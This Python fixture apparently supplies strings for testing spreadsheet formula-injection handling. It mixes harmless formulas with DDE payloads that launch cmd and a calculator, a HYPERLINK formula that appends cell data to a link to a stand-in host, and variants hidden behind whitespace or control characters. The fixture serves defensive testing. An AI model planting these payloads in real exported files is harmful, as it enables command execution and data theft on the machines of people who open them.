"""Names that a spreadsheet would run."""

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"xem")', '=IMPORTXML(A1,"//a")',
    '=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=2+5+cmd|' /C calc'!A0", "=A1", "==1", "=-1",
    "+1+1", "+cmd|' /C calc'!A0", "+SUM(A1:A9)", "++1", "+84 912", "-1+1", "-cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0",
    "--1", "-A1", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@@", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", " -1",
    " @A1", "\u00a0=1+1", "\u3000=1+1", "\t\t@A1", "\r\n=1", "\x0b=1+1", "\x0c=1+1", "\u2003=1+1", " \t =1",
    "\n\n-1", "\t+1",
]  # fmt: skip
